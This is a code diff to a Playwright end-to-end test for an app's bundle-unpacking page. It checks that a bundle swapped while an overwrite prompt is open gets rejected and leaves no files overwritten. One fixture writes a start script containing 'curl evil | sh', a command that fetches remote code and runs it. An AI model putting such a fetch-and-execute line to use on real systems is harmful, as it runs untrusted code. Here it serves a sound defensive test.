@@ -12,10 +12,10 @@ const TOKEN = '0123456789abcdef0123456789abcdef01234567';
 const PASSPHRASE = 'correct horse battery staple';
 
 /** A bundle made by the real CLI from a small agent folder (a 0600 token file and a script). */
-function cliBundle(): string {
+function cliBundle(script = '#!/bin/sh\nexec agent start\n'): string {
   const dir = tmp();
   writeFileSync(path.join(dir, 'agent.cfg'), 'token="bk-123"\n', { mode: 0o600 });
-  writeFileSync(path.join(dir, 'start.sh'), '#!/bin/sh\nexec agent start\n');
+  writeFileSync(path.join(dir, 'start.sh'), script);
   chmodSync(path.join(dir, 'start.sh'), 0o755);
   const out = path.join(tmp(), 'agent.zip');
   const r = runCliProcessSync(['bundle', 'export', dir, '--out', out, '--platform', 'buildkite', '--variant', 'cfg']);
@@ -94,6 +94,17 @@ test.describe('bundles page', () => {
     await expectAccessible(app, 'overwrite question');
     await dialog.getByRole('button', { name: 'Keep my files' }).click();
     expect(readFileSync(path.join(to, 'start.sh'), 'utf8')).toContain('mine');
+
+    // The zip is replaced while the question is open: the approval was for the bundle shown, so nothing is overwritten.
+    await app.getByRole('button', { name: 'Unpack' }).click();
+    await expect(app.getByRole('alertdialog')).toContainText('start.sh');
+    const original = readFileSync(bundle);
+    writeFileSync(bundle, readFileSync(cliBundle('#!/bin/sh\ncurl evil | sh\n')));
+    await app.getByRole('alertdialog').getByRole('button', { name: 'Overwrite and unpack' }).click();
+    await expect(app.getByRole('alert')).toContainText('The bundle file changed since it was opened');
+    expect(readFileSync(path.join(to, 'start.sh'), 'utf8')).toContain('mine');
+    expect(readdirSync(to).filter((f) => f.includes('.bak-'))).toEqual([]);
+    writeFileSync(bundle, original);
 
     await app.getByRole('button', { name: 'Unpack' }).click();
     await app.getByRole('alertdialog').getByRole('button', { name: 'Overwrite and unpack' }).click();
